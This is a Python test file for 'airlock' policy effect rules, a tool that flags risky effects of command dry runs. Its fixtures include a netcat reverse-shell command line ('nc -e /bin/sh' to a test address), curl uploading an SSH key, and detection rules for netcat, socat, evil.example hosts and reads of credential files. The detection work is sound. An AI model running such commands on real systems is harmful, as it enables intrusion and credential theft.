"""Effect rules: policy rules judged on what a dry run did (airlock.policy.effects).

Most tests judge hand-built :class:`airlock.types.Effects` with small policies written
to ``tmp_path``; the last ones judge realistic effects with the shipped default policy.
"""

from __future__ import annotations

import json
import os
import threading
from collections.abc import Mapping
from pathlib import Path

import pytest

from airlock.cli.main import main
from airlock.policy.effects import (
    ChangeScope,
    PathGlobs,
    change_scope,
    path_glob_problem,
)
from airlock.policy.loader import (
    FixtureCase,
    PolicyBundle,
    PolicyError,
    PolicyProblem,
    load_bundle,
    read_effects_file,
    run_fixture,
    run_inline_tests,
)
from airlock.sandbox.reads import DEFAULT_SENSITIVE_GLOBS, compile_globs
from airlock.types import (
    ChangeKind,
    Effects,
    FileChange,
    FileType,
    FindingSource,
    NetProtocol,
    NetworkAttemptInfo,
    ProcessInfo,
    SensitiveReadInfo,
    Severity,
    Verdict,
)
from tests.helpers import CHECKOUT, DATA
from tests.helpers.policy import load_policy, policy, policy_problems, rule_yaml, write_policy

DEFAULT_POLICY = CHECKOUT / "airlock" / "policy" / "default"
NEUTRAL_POLICY = DATA / "neutral-policy"
HOME = "/home/me"
WS = "/home/me/proj"

# --------------------------------------------------------------------------- helpers


def load(tmp_path: Path, files: Mapping[str, str], *, run_tests: bool = True) -> PolicyBundle:
    return load_policy(tmp_path, files, run_tests=run_tests)


def problems(tmp_path: Path, files: Mapping[str, str]) -> tuple[PolicyProblem, ...]:
    return policy_problems(tmp_path, files, run_tests=True)


def rule(effect: str, *, rid: str = "t.effect", decision: str = "deny", extra: str = "") -> str:
    """One effect rule's YAML, with ``effect`` as a flow mapping."""
    return rule_yaml("effect", effect, rid=rid, decision=decision, extra=extra)


def one(tmp_path: Path, effect: str, **kw: str) -> PolicyBundle:
    return load(tmp_path, {"p.yaml": policy(rule(effect, **kw))})


def change(
    path: str, kind: ChangeKind = ChangeKind.MODIFIED, *, ws: str = WS, entries: int = 0
) -> FileChange:
    inside = path == ws or path.startswith(ws + "/")
    return FileChange(
        path=path.encode(),
        kind=kind,
        file_type=FileType.NONE if kind is ChangeKind.DELETED else FileType.REGULAR,
        in_workspace=inside,
        entries_deleted=entries,
    )


def effects(
    *changes: FileChange,
    processes: tuple[ProcessInfo, ...] = (),
    network: tuple[NetworkAttemptInfo, ...] = (),
    reads: tuple[str, ...] = (),
    home: str = HOME,
    ws: str = WS,
) -> Effects:
    return Effects(
        workspace=ws,
        home=home,
        changes=changes,
        processes=processes,
        network=network,
        sensitive_reads=tuple(SensitiveReadInfo(path=r.encode(), pid=7) for r in reads),
    )


def proc(*argv: str, exe: str = "") -> ProcessInfo:
    return ProcessInfo(
        pid=2,
        ppid=1,
        argv=tuple(a.encode() for a in argv),
        executables=(exe.encode(),) if exe else (),
    )


def tcp(
    address: str, port: int, *, dns_name: str = "", sni: str = "", http_host: str = ""
) -> NetworkAttemptInfo:
    return NetworkAttemptInfo(
        NetProtocol.TCP, address, port, dns_name=dns_name, sni=sni, http_host=http_host
    )


def dns(name: str) -> NetworkAttemptInfo:
    return NetworkAttemptInfo(NetProtocol.DNS, "127.0.0.53", 53, dns_name=name, dns_type="A")


def fired(bundle: PolicyBundle, e: Effects) -> list[str]:
    return [f.rule_id for f in bundle.judge_effects(e)]


# --------------------------------------------------------------------------- loading


def test_effect_rules_are_kept_apart_from_static_rules(tmp_path: Path) -> None:
    from airlock.policy.model import Analysis, Classification, SimpleCommand

    text = policy(
        rule("{files: {paths: ['~/.bashrc']}}", rid="e.rc"),
        """
  - id: s.rm
    title: rm
    description: d
    decision: ask
    severity: low
    match: {argv0: [rm]}""",
    )
    b = load(tmp_path, {"p.yaml": text})
    assert [r.id for r in b.rules] == ["s.rm"]
    assert [r.id for r in b.effect_rules] == ["e.rc"]
    assert b.rule("e.rc") is None and b.effect_rule("e.rc") is b.effect_rules[0]
    assert b.effect_rule("s.rm") is None
    r = b.effect_rules[0]
    assert (r.title, r.decision, r.severity, r.file, r.line) == (
        "Test rule e.rc",
        Verdict.DENY,
        Severity.HIGH,
        str(tmp_path / "p.yaml"),
        3,
    )
    # The static pass never sees the effect rule, whatever the command.
    cmd = SimpleCommand(
        argv0="echo",
        name="echo",
        args=("x",),
        flags=(),
        positionals=("x",),
        redirects=(),
        assignments=(),
        wrappers=(),
        text="echo x",
        span=(0, 6),
    )
    analysis = Analysis("echo x", (cmd,), (), (), Classification(), False, "echo x")
    assert b.evaluate(analysis).findings == ()
    assert b.explain(analysis) == ()
    assert fired(b, effects(change(HOME + "/.bashrc"))) == ["e.rc"]


def test_a_bundle_without_effect_rules(tmp_path: Path) -> None:
    neutral = load_bundle(NEUTRAL_POLICY)
    assert neutral.effect_rules == () and neutral.sensitive_globs == ()
    assert neutral.judge_effects(effects(change("/etc/passwd"))) == ()


def test_schema_errors_are_located_with_hints(tmp_path: Path) -> None:
    text = """\
    version: 1
    rules:
      - id: e.one
        title: T
        description: D
        decision: allow
        severity: high
        effect:
          files: {paths: [/etc/**], kinds: [changed], scpoe: [home]}
      - id: e.two
        title: T
        description: D
        decision: deny
        severity: high
        match: {argv0: [rm]}
        effect: {network: {any: false}}
        exceptions: [{values: [x], justification: y}]
      - id: e.three
        title: T
        description: D
        decision: deny
        severity: high
        effect: {sensitive_reads: {any: true}}
        tests:
          match: ["cat ~/.ssh/id_rsa"]
          not_match: [{files: [{path: x, kind: modifed}]}]
      - id: e.four
        title: T
        description: D
        decision: deny
        severity: high
      - id: e.five
        title: T
        description: D
        decision: deny
        severity: high
        effect: {}
      - id: e.six
        title: T
        description: D
        decision: deny
        severity: high
        effect: {network: {ports: [true, 70000]}}
    """
    found = problems(tmp_path, {"p.yaml": text})
    got = {(p.line, p.column): (p.message, p.hint) for p in found}
    assert got[(6, 15)] == (
        "rules[0].decision: 'allow' is not one of ask, deny",
        "an effect rule asks or denies: a dry run that no rule objects to is ALLOW already, "
        "and an allow could not cancel another rule's ask",
    )
    assert got[(9, 41)][0] == (
        "rules[0].effect.files.kinds[0]: 'changed' is not one of created, modified, deleted, "
        "metadata"
    )
    assert got[(9, 51)][0] == "unknown key 'scpoe' in rules[0].effect.files"
    assert got[(9, 51)][1].startswith("did you mean 'scope'? allowed keys: any, hard_link, kinds,")
    assert got[(15, 5)] == (
        "a rule has either `match:` (a static rule) or `effect:` (an effect rule), not both",
        "split it into two rules with their own ids",
    )
    assert got[(16, 29)][0] == "rules[1].effect.network.any: must be true, found false"
    assert got[(17, 5)][0] == "an effect rule has no `exceptions:`"
    assert "files.not_paths" in got[(17, 5)][1]
    assert got[(25, 15)] == (
        "rules[2].tests.match[0]: expected a mapping, found a string",
        "an effect rule's tests are effects (files, programs, network, sensitive_reads), "
        "not command lines",
    )
    assert got[(26, 44)][0].startswith("rules[2].tests.not_match[0].files[0].kind: 'modifed'")
    assert got[(26, 44)][1] == "did you mean 'modified'?"
    assert got[(27, 5)] == (
        "missing required key 'match' in rules[3]",
        "a rule has `match:` (a static rule, judged on the command line) or `effect:` "
        "(an effect rule, judged on what the dry run did)",
    )
    assert got[(37, 13)][0] == "rules[4].effect: must not be empty"
    assert "any_of, files, network, programs, sensitive_reads" in got[(37, 13)][1]
    assert got[(43, 32)][0] == (
        "rules[5].effect.network.ports[0]: expected an integer or a string, found the boolean true"
    )
    assert got[(43, 38)][0] == (
        "rules[5].effect.network.ports[1]: 70000 is greater than the maximum of 65535"
    )
    assert len(found) == 12, found


def test_meaning_errors_are_located_with_hints(tmp_path: Path) -> None:
    text = """\
    version: 1
    sensitive_paths: ["~/.ssh/**", "id_[rd]sa", "$nope", "~root/x"]
    lists:
      rc: ["~/.bashrc", "/etc/profile.d/"]
    rules:
      - id: e.one
        title: T
        description: D
        decision: ask
        severity: high
        effect:
          files: {paths: [$rc, "a/../b"]}
          network: {any: true, ports: [80]}
      - id: e.two
        title: T
        description: D
        decision: deny
        severity: high
        effect:
          network: {addresses: [10.0.0.1/8, nope, "::1"], ports: ["90-80", "8000-8999", x]}
        tests:
          match:
            - network: [{address: bad}]
      - id: e.one
        title: T
        description: D
        decision: deny
        severity: high
        effect: {programs: {argv0: [sh]}}
    """
    found = problems(tmp_path, {"p.yaml": text})
    got = {(p.line, p.column): (p.message, p.hint) for p in found}
    assert got[(2, 32)] == (
        "path glob 'id_[rd]sa': [classes] are not supported",
        "path globs know *, ? and **; list each name instead",
    )
    assert got[(2, 45)][0] == "unknown list '$nope' (defined lists: rc)"
    assert got[(2, 54)][0] == "path glob '~root/x': ~ must stand alone or before /"
    # A bad list item is reported once, where the list defines it.
    assert got[(4, 21)][0] == (
        "path glob '/etc/profile.d/' ends with / (list 'rc' is used as path globs by an effect "
        "rule or sensitive_paths)"
    )
    assert "/etc/profile.d/** for everything below it" in got[(4, 21)][1]
    assert got[(12, 28)][0] == "path glob 'a/../b' has an empty, . or .. component"
    assert got[(13, 22)][0] == "`any: true` stands alone"
    assert got[(20, 29)][0] == "invalid network '10.0.0.1/8': 10.0.0.1/8 has host bits set"
    assert got[(20, 41)][0].startswith("invalid network 'nope'")
    assert got[(20, 63)][0] == "invalid port or port range '90-80'"
    assert got[(20, 85)][0] == "invalid port or port range 'x'"
    assert got[(23, 31)][0] == "invalid IP address 'bad'"
    assert got[(24, 9)][0] == f"duplicate rule id 'e.one' (first defined at {tmp_path}/p.yaml:6:9)"
    assert len(found) == 12, found


def test_path_glob_problems() -> None:
    assert path_glob_problem("~/.ssh/**") is None
    assert path_glob_problem("/") is None
    assert path_glob_problem(".env.*") is None
    for bad in ("x[ab]", "~x", "/etc/", "a//b", "./x", "/a/../b"):
        assert path_glob_problem(bad) is not None, bad


# --------------------------------------------------------------------------- files


def test_files_paths_absolute_home_and_anywhere(tmp_path: Path) -> None:
    b = one(tmp_path, "{files: {paths: [/etc/*.conf, '~/.ssh/**', .env, /etc/hosts]}}")
    assert fired(b, effects(change("/etc/x.conf"))) == ["t.effect"]
    assert fired(b, effects(change("/etc/sub/x.conf"))) == []  # * stays in a component
    assert fired(b, effects(change("/etc/hosts"))) == ["t.effect"]  # a literal
    assert fired(b, effects(change("/etc/hosts.allow"))) == []
    assert fired(b, effects(change(HOME + "/.ssh/a/b/c"))) == ["t.effect"]  # ** spans
    assert fired(b, effects(change("/root/.ssh/id_rsa"))) == []  # ~ is the caller's home
    assert fired(b, effects(change("/root/.ssh/id_rsa"), home="/root")) == ["t.effect"]
    assert fired(b, effects(change(WS + "/.env"))) == ["t.effect"]  # at any depth
    assert fired(b, effects(change("/srv/a/b/.env"))) == ["t.effect"]
    assert fired(b, effects(change("/srv/a/b/x.env"))) == []
    assert fired(b, effects(change("/srv/.env.local"))) == []
    assert fired(b, effects()) == []


def test_double_star_slash_also_matches_no_directory(tmp_path: Path) -> None:
    b = one(tmp_path, "{files: {paths: ['/a/**/b', 'x/**/*.pem', '*.key']}}")
    assert fired(b, effects(change("/a/b"))) == ["t.effect"]
    assert fired(b, effects(change("/a/1/2/b"))) == ["t.effect"]
    assert fired(b, effects(change("/a/1/2/bb"))) == []
    assert fired(b, effects(change("/srv/x/k.pem"))) == ["t.effect"]
    assert fired(b, effects(change("/srv/x/1/2/k.pem"))) == ["t.effect"]
    assert fired(b, effects(change("/srv/y/k.pem"))) == []
    assert fired(b, effects(change("/srv/deep/a.key"))) == ["t.effect"]
    assert fired(b, effects(change("/srv/deep/a.key.bak"))) == []


def test_files_kinds_not_paths_and_any(tmp_path: Path) -> None:
    b = one(tmp_path, "{files: {paths: ['/etc/**'], not_paths: [/etc/motd], kinds: [deleted]}}")
    assert fired(b, effects(change("/etc/x", ChangeKind.DELETED))) == ["t.effect"]
    assert fired(b, effects(change("/etc/x", ChangeKind.CREATED))) == []
    assert fired(b, effects(change("/etc/motd", ChangeKind.DELETED))) == []
    # Some *one* change must satisfy every key: a created /etc/x and a deleted /tmp/y is not it.
    mixed = effects(change("/etc/x", ChangeKind.CREATED), change("/tmp/y", ChangeKind.DELETED))
    assert fired(b, mixed) == []
    b2 = one(tmp_path / "2", "{files: {any: true}}")
    assert fired(b2, effects(change(WS + "/x"))) == ["t.effect"]
    assert fired(b2, effects(reads=("/etc/shadow",))) == []
    b3 = one(tmp_path / "3", "{files: {kinds: [metadata, created]}}")
    assert fired(b3, effects(change("/x", ChangeKind.METADATA_CHANGED))) == ["t.effect"]
    assert fired(b3, effects(change("/x", ChangeKind.MODIFIED))) == []


def test_scopes(tmp_path: Path) -> None:
    for scope, yes, no in (
        ("workspace", [WS + "/src/a.py", WS], [HOME + "/x", "/tmp/x", "/etc/x"]),
        ("home", [HOME + "/.cache/x", HOME + "/other/y"], [WS + "/a", "/tmp/x", "/etc/x", HOME]),
        (
            "temp",
            ["/tmp/x", "/var/tmp/a/b", "/dev/shm/s", "/run/user/1000/x"],
            ["/tmp", "/var/tmp", WS + "/a", HOME + "/x", "/tmpfoo", "/run/userx/1"],
        ),
        ("system", ["/etc/passwd", "/usr/bin/x", "/tmp", "/home/other/x", HOME], ["/tmp/x"]),
    ):
        b = one(tmp_path / scope, f"{{files: {{scope: [{scope}]}}}}")
        for p in yes:
            assert fired(b, effects(change(p))) == ["t.effect"], (scope, p)
        for p in no:
            assert fired(b, effects(change(p))) == [], (scope, p)


def test_scope_edges() -> None:
    # The workspace wins over temp and home; a home of "/" or "" is no home (fail closed).
    assert change_scope(change("/tmp/ws/a", ws="/tmp/ws"), HOME) is ChangeScope.WORKSPACE
    assert change_scope(change(HOME + "/x"), HOME + "/") is ChangeScope.HOME
    assert change_scope(change("/etc/x"), "/") is ChangeScope.SYSTEM
    assert change_scope(change("/home/me/x"), "") is ChangeScope.SYSTEM
    assert change_scope(change("/home/meow/x"), HOME) is ChangeScope.SYSTEM


def test_home_patterns_follow_the_callers_home(tmp_path: Path) -> None:
    b = one(tmp_path, "{files: {paths: ['~/.bashrc', '~']}}")
    assert fired(b, effects(change("/root/.bashrc"), home="/root")) == ["t.effect"]
    assert fired(b, effects(change("/root/.bashrc"), home="/root/")) == ["t.effect"]
    assert fired(b, effects(change("/root/.bashrc"), home=HOME)) == []
    assert fired(b, effects(change(HOME, ChangeKind.METADATA_CHANGED))) == ["t.effect"]
    assert fired(b, effects(change("/.bashrc"), home="")) == []  # no home: ~ matches nothing
    assert fired(b, effects(change("/.bashrc"), home="/")) == ["t.effect"]  # as the recorder


_SCOPE_OF = {"workspace": 1, "home": 2, "temp": 3, "system": 4}
_KIND_OF = {
    "created": ChangeKind.CREATED,
    "modified": ChangeKind.MODIFIED,
    "deleted": ChangeKind.DELETED,
    "metadata": ChangeKind.METADATA_CHANGED,
}


def _oracle_scope(c: FileChange) -> str:
    """The scope, written independently of airlock.policy.effects."""
    p = c.path.decode()
    if c.in_workspace:
        return "workspace"
    if p.startswith(HOME + "/"):
        return "home"
    if any(p.startswith(d + "/") for d in ("/tmp", "/var/tmp", "/dev/shm", "/run/user")):
        return "temp"
    return "system"


def test_many_changes_use_the_indexes_and_stay_correct(tmp_path: Path) -> None:
    """A 1,000-change run and 50 rules of every glob shape: the indexed lookups (prefix
    ranges, literal searches over the joined paths) find exactly the changes a plain loop
    with the recorder's own glob regexes finds, and the messages count them all."""
    shapes: list[dict[str, list[str]]] = [
        {"paths": ["/opt/v%d/**"]},
        {"paths": ["~/.config/t%d/*"], "kinds": ["created"]},
        {"paths": ["/home/*/p%d/x", "/srv/*"]},
        {"paths": ["s%d.yaml", "**/d%d/*.pem"]},
        {"paths": ["*.k%d"], "scope": ["home", "system"]},
        {"paths": ["**"], "not_paths": ["**/n%d/**"], "scope": ["temp"]},
        {"paths": ["/tmp/**"], "kinds": ["deleted"]},
        {"scope": ["workspace"], "kinds": ["metadata"]},
        {"paths": ["~/**"], "not_paths": ["~/.config/**"]},
        {"not_paths": ["/srv/**", "~/**"], "kinds": ["modified"]},
    ]
    specs = []
    for i in range(50):
        shape = shapes[i % len(shapes)]
        specs.append({k: [v.replace("%d", str(i)) for v in vs] for k, vs in shape.items()})
    yaml_rules = [
        rule(json.dumps({"files": s}), rid=f"r.{i:02d}", decision="ask")
        for i, s in enumerate(specs)
    ]
    b = load(tmp_path, {"p.yaml": policy(*yaml_rules)})
    assert len(b.effect_rules) == 50
    changes = []
    for i in range(1000):
        j = i % 50
        options = [
            change(f"{WS}/build/m{i}.o", ChangeKind.CREATED),
            change(f"/opt/v{j}/lib/x{i}"),
            change(f"{HOME}/.config/t{j}/c{i}", ChangeKind.CREATED),
            change(f"/home/u{i}/p{j}/x"),
            change(f"/srv/a{i}/s{j}.yaml"),
            change(f"/srv/d{j}/k{i}.pem", ChangeKind.DELETED),
            change(f"{HOME}/keys/a{i}.k{j}"),
            change(f"/tmp/n{j}/t{i}"),
            change(f"/tmp/t{i}", ChangeKind.DELETED),
            change(f"{WS}/m{i}", ChangeKind.METADATA_CHANGED),
            change(f"/srv/x{i}"),
        ]
        changes.append(options[(i * 7) % len(options)])
    findings = {f.rule_id: f for f in b.judge_effects(effects(*changes))}
    for i, spec in enumerate(specs):
        paths = compile_globs(spec.get("paths", ["**"]), HOME)
        not_paths = compile_globs(spec.get("not_paths", []), HOME)
        kinds = {_KIND_OF[k] for k in spec.get("kinds", _KIND_OF)}
        scopes = set(spec.get("scope", _SCOPE_OF))
        want = [
            c
            for c in changes
            if paths.fullmatch(c.path)
            and not not_paths.fullmatch(c.path)
            and c.kind in kinds
            and _oracle_scope(c) in scopes
        ]
        rid = f"r.{i:02d}"
        if not want:
            assert rid not in findings, (rid, spec)
            continue
        message = findings[rid].message
        listed = sorted(c.path.decode() for c in want)[:3]
        assert message.startswith(f"Test rule {rid}: {listed[0]} ("), (rid, message)
        more = len(want) - 3
        assert message.endswith(f" and {more} more") if more > 0 else " more" not in message
    assert len(findings) >= 30  # most shapes fire somewhere: the test is not vacuous


# --------------------------------------------------------------------------- other keys


def test_programs_argv0_and_args(tmp_path: Path) -> None:
    b = one(tmp_path, "{programs: {argv0: [nc, 'ncat*', /opt/*/bin/evil]}}")
    assert fired(b, effects(processes=(proc("nc", "-l", "4444"),))) == ["t.effect"]
    assert fired(b, effects(processes=(proc("/usr/bin/ncat.openbsd"),))) == ["t.effect"]
    assert fired(b, effects(processes=(proc("/opt/x/bin/evil"),))) == ["t.effect"]
    assert fired(b, effects(processes=(proc("evil"),))) == []  # a / pattern is a full path
    # argv[0] can lie (exec -a): the executed file's name counts too.
    assert fired(b, effects(processes=(proc("innocent", exe="/usr/bin/nc"),))) == ["t.effect"]
    assert fired(b, effects(processes=(proc("ncx"), proc("echo", "nc")))) == []
    b2 = one(tmp_path / "2", "{programs: {argv0: [curl], args: ['--data*', '~/.ssh/*']}}")
    assert fired(b2, effects(processes=(proc("curl", "--data-binary=@x", "u"),))) == ["t.effect"]
    assert fired(b2, effects(processes=(proc("curl", "-T", HOME + "/.ssh/id_rsa"),))) == [
        "t.effect"
    ]
    assert fired(b2, effects(processes=(proc("curl", "-T", "/root/.ssh/id_rsa"),))) == []
    assert fired(b2, effects(processes=(proc("wget", "--data=x"),))) == []
    b3 = one(tmp_path / "3", "{programs: {any: true}}")
    assert fired(b3, effects(processes=(proc("true"),))) == ["t.effect"]
    assert fired(b3, effects()) == []


def test_network_keys(tmp_path: Path) -> None:
    b = one(
        tmp_path,
        "{network: {hosts: ['*.evil.example', paste.example], ports: [443, '8000-8999'], "
        "protocols: [tcp]}}",
    )
    assert fired(b, effects(network=(tcp("198.18.0.1", 443, dns_name="x.evil.example"),))) == [
        "t.effect"
    ]
    assert fired(b, effects(network=(tcp("198.18.0.1", 8080, sni="PASTE.example."),))) == [
        "t.effect"
    ]  # case-insensitive, trailing dot ignored
    assert fired(b, effects(network=(tcp("1.2.3.4", 8999, http_host="paste.example:8999"),))) == [
        "t.effect"
    ]
    assert fired(b, effects(network=(tcp("198.18.0.1", 22, dns_name="x.evil.example"),))) == []
    assert fired(b, effects(network=(dns("x.evil.example"),))) == []  # protocols: tcp
    assert fired(b, effects(network=(tcp("198.18.0.1", 443, dns_name="good.example"),))) == []
    b2 = one(tmp_path / "2", "{network: {addresses: [203.0.113.0/24, '2001:db8::/32']}}")
    assert fired(b2, effects(network=(tcp("203.0.113.7", 4444),))) == ["t.effect"]
    assert fired(b2, effects(network=(tcp("2001:db8::1", 80),))) == ["t.effect"]
    assert fired(b2, effects(network=(tcp("::ffff:203.0.113.9", 80),))) == ["t.effect"]
    assert fired(b2, effects(network=(tcp("198.51.100.1", 80),))) == []
    assert fired(b2, effects(network=(tcp("not-an-address", 80),))) == []
    b3 = one(tmp_path / "3", "{network: {protocols: [dns, udp]}}")
    assert fired(b3, effects(network=(dns("a.example"),))) == ["t.effect"]
    assert fired(b3, effects(network=(tcp("1.2.3.4", 53),))) == []


def test_network_not_hosts_needs_every_name_excepted(tmp_path: Path) -> None:
    b = one(tmp_path, "{network: {not_hosts: ['pypi.org', '*.pythonhosted.org']}}")
    assert fired(b, effects(network=(dns("pypi.org"),))) == []
    assert (
        fired(b, effects(network=(tcp("198.18.0.2", 443, dns_name="files.pythonhosted.org"),)))
        == []
    )
    # A forged SNI does not hide the name the address was resolved for.
    forged = tcp("198.18.0.3", 443, dns_name="evil.example", sni="pypi.org")
    assert fired(b, effects(network=(forged,))) == ["t.effect"]
    # No name at all: nothing to except.
    assert fired(b, effects(network=(tcp("203.0.113.7", 443),))) == ["t.effect"]


def test_sensitive_reads_keys(tmp_path: Path) -> None:
    b = one(tmp_path, "{sensitive_reads: {paths: ['~/.ssh/**'], not_paths: ['~/.ssh/*.pub']}}")
    assert fired(b, effects(reads=(HOME + "/.ssh/id_rsa",))) == ["t.effect"]
    assert fired(b, effects(reads=(HOME + "/.ssh/id_rsa.pub",))) == []
    assert fired(b, effects(reads=("/etc/shadow",))) == []
    b2 = one(tmp_path / "2", "{sensitive_reads: {any: true}}")
    assert fired(b2, effects(reads=("/etc/shadow",))) == ["t.effect"]
    assert fired(b2, effects(change("/etc/shadow"))) == []


def test_keys_combine_with_and_any_of_with_or(tmp_path: Path) -> None:
    b = one(tmp_path, "{sensitive_reads: {any: true}, network: {any: true}}")
    both = effects(reads=("/etc/shadow",), network=(dns("x.example"),))
    assert fired(b, both) == ["t.effect"]
    assert fired(b, effects(reads=("/etc/shadow",))) == []
    assert fired(b, effects(network=(dns("x.example"),))) == []
    b2 = one(
        tmp_path / "2",
        "{any_of: [{files: {paths: [/etc/passwd]}}, "
        "{any_of: [{programs: {argv0: [nc]}}, {network: {ports: [4444]}}]}], "
        "sensitive_reads: {any: true}}",
    )
    read = ("/etc/shadow",)
    assert fired(b2, effects(change("/etc/passwd"), reads=read)) == ["t.effect"]
    assert fired(b2, effects(processes=(proc("nc"),), reads=read)) == ["t.effect"]
    assert fired(b2, effects(network=(tcp("1.2.3.4", 4444),), reads=read)) == ["t.effect"]
    assert fired(b2, effects(network=(tcp("1.2.3.4", 4444),))) == []  # the AND still holds
    assert fired(b2, effects(network=(tcp("1.2.3.4", 80),), reads=read)) == []


def test_lists_work_in_every_pattern(tmp_path: Path) -> None:
    header = """\
    lists:
      rc: ["~/.bashrc", "/etc/profile.d/*"]
      bad_hosts: ["*.evil.example"]
      tools: [nc, socat]
    """
    text = policy(
        rule("{files: {paths: [$rc]}}", rid="e.rc"),
        rule("{network: {hosts: [$bad_hosts]}}", rid="e.net"),
        rule("{programs: {argv0: [$tools], args: [$rc]}}", rid="e.prog"),
        header=header,
    )
    header2 = "sensitive_paths: [$rc, /etc/shadow]\n"
    b = load(tmp_path, {"p.yaml": text, "q.yaml": "version: 1\n" + header2})
    assert fired(b, effects(change("/etc/profile.d/x.sh"))) == ["e.rc"]
    assert fired(b, effects(network=(dns("a.evil.example"),))) == ["e.net"]
    assert fired(b, effects(processes=(proc("socat", HOME + "/.bashrc"),))) == ["e.prog"]
    assert b.sensitive_globs == ("/etc/profile.d/*", "/etc/shadow", "~/.bashrc")
    assert b.warnings == ()  # lists used by effect rules and sensitive_paths count as used


# --------------------------------------------------------------------------- sensitive paths


def test_sensitive_globs_union_sorted_and_deduplicated(tmp_path: Path) -> None:
    b = load(
        tmp_path,
        {
            "a.yaml": "version: 1\nsensitive_paths: ['~/.ssh/**', .env]\n",
            "sub/b.yaml": "version: 1\nsensitive_paths: [.env, /etc/shadow]\n",
            "c.yaml": "version: 1\n",
        },
    )
    assert b.sensitive_globs == (".env", "/etc/shadow", "~/.ssh/**")
    assert b.effect_rules == () and b.rules == ()


def test_default_sensitive_paths_cover_the_recorders_defaults() -> None:
    b = load_bundle(DEFAULT_POLICY)
    assert set(DEFAULT_SENSITIVE_GLOBS) <= set(b.sensitive_globs)
    for extra in ("~/.pgpass", "~/.npmrc", "~/.pypirc", "~/.git-credentials", "~/.gnupg/**"):
        assert extra in b.sensitive_globs
    assert list(b.sensitive_globs) == sorted(set(b.sensitive_globs))


@pytest.mark.parametrize("home", ["/home/me", "/root", "/", ""])
def test_path_globs_mean_what_the_recorder_matches(home: str) -> None:
    """One syntax: the rules' path globs agree with airlock.sandbox.reads on every path."""
    globs = (*load_bundle(DEFAULT_POLICY).sensitive_globs, "/a/**/b", "x?y", "~", "**")
    paths = [
        f"{home.rstrip('/')}/{p}"
        for p in (
            ".ssh/id_rsa", ".ssh", ".ssh/a/b", ".aws/credentials", ".netrc", ".netrc2",
            ".mozilla/firefox/abc.default/logins.json", ".mozilla/firefox/a/b/logins.json",
            ".config/google-chrome/Default/Login Data", ".env", "proj/.env.local", ".pgpass",
        )
    ] + [
        "/etc/shadow", "/etc/shadow-", "/etc/shadowx", "/srv/app/.env", "/srv/.envrc", "/a/b",
        "/a/x/y/b", "/a/bb", "/q/xzy", "/q/x/y", "/", home or "/nohome", "/.ssh/id_rsa",
    ]  # fmt: skip
    recorder = compile_globs(globs, home)
    tilde = os.fsencode(home.rstrip("/")) if home else None
    for g in globs:
        one_glob = PathGlobs.of([g])
        single = compile_globs([g], home)
        for p in paths:
            raw = os.fsencode(p)
            if g == "~" and home == "/":
                continue  # degenerate in the recorder ("~" becomes "", a match-anywhere glob)
            if not home and g.startswith("~"):
                continue  # no home: the rules match nothing (the recorder has no such case)
            assert one_glob.match(raw, tilde) == bool(single.fullmatch(raw)), (g, p, home)
    assert recorder.fullmatch(b"/etc/shadow")


# --------------------------------------------------------------------------- findings


def test_findings_name_the_evidence(tmp_path: Path) -> None:
    b = load(
        tmp_path,
        {
            "p.yaml": policy(
                rule("{files: {scope: [system]}}", rid="e.sys", decision="deny"),
                rule("{network: {any: true}}", rid="e.net", decision="ask"),
                rule(
                    "{sensitive_reads: {any: true}, network: {any: true}}",
                    rid="e.exfil",
                    decision="deny",
                ),
                rule("{programs: {argv0: [nc]}}", rid="e.nc", decision="ask"),
            )
        },
    )
    e = effects(
        change("/etc/b"),
        change("/etc/a", ChangeKind.CREATED),
        change("/etc/c", ChangeKind.DELETED, entries=12),
        change("/etc/d", ChangeKind.METADATA_CHANGED),
        change("/etc/e"),
        change(WS + "/ok"),
        network=(dns("x.example"), dns("x.example"), tcp("203.0.113.7", 4444)),
        reads=(HOME + "/.ssh/id_ed25519", HOME + "/.ssh/id_ed25519"),
        processes=(proc("nc", "-e", "/bin/sh", "203.0.113.7", "4444"),),
    )
    findings = b.judge_effects(e)
    assert [(f.rule_id, f.verdict, f.severity) for f in findings] == [
        ("e.exfil", Verdict.DENY, Severity.HIGH),
        ("e.sys", Verdict.DENY, Severity.HIGH),
        ("e.nc", Verdict.ASK, Severity.HIGH),
        ("e.net", Verdict.ASK, Severity.HIGH),
    ]
    by_id = {f.rule_id: f for f in findings}
    assert by_id["e.sys"].message == (
        "Test rule e.sys: /etc/a (created), /etc/b (modified), "
        "/etc/c (deleted, 12 entries below) and 2 more"
    )
    assert by_id["e.net"].message == "Test rule e.net: dns x.example, tcp 203.0.113.7:4444"
    assert by_id["e.exfil"].message == (
        f"Test rule e.exfil: {HOME}/.ssh/id_ed25519 (read); dns x.example, tcp 203.0.113.7:4444"
    )
    assert by_id["e.nc"].message == "Test rule e.nc: nc -e /bin/sh 203.0.113.7 4444"
    assert all(f.source is FindingSource.DYNAMIC for f in findings)
    assert all(f.subcommand == "" and f.span == (0, 0) for f in findings)


def test_judging_is_thread_safe(tmp_path: Path) -> None:
    b = load_bundle(DEFAULT_POLICY)
    cases = [
        effects(change("/etc/passwd")),
        effects(change(HOME + "/.bashrc")),
        effects(reads=(HOME + "/.aws/credentials",), network=(dns("x.example"),)),
        effects(change(WS + "/a")),
    ]
    expected = [b.judge_effects(c) for c in cases]
    errors: list[str] = []

    def work(k: int) -> None:
        for i in range(200):
            c = (i + k) % len(cases)
            if b.judge_effects(cases[c]) != expected[c]:
                errors.append(f"thread {k} case {c}")

    threads = [threading.Thread(target=work, args=(k,)) for k in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors


# --------------------------------------------------------------------------- inline tests


def test_inline_tests_use_a_fake_workspace_and_home(tmp_path: Path) -> None:
    extra = """\
    tests:
      match:
        - files: [{path: "~/.bashrc", kind: modified}]
        - files: [{path: /home/user/.bashrc, kind: created}]
      not_match:
        - files: [{path: .bashrc, kind: created}]
        - files: [{path: "~/.bashrc", kind: deleted}]
        - {}
    """
    b = one(tmp_path, "{files: {paths: ['~/.bashrc'], kinds: [created, modified]}}", extra=extra)
    [r] = b.effect_rules
    assert len(r.tests) == 5
    t0 = r.tests[0]
    assert (t0.effects.workspace, t0.effects.home) == ("/workspace", "/home/user")
    assert t0.effects.changes[0].path == b"/home/user/.bashrc"
    assert not t0.effects.changes[0].in_workspace
    ws_change = r.tests[2].effects.changes[0]
    assert (ws_change.path, ws_change.in_workspace) == (b"/workspace/.bashrc", True)
    assert t0.text == "{files: [{path: ~/.bashrc, kind: modified}]}"
    assert (t0.line, t0.column) == (11, 11)
    results = run_inline_tests(b.effect_rules)
    assert [(res.ok, res.expect_fire) for res in results] == [
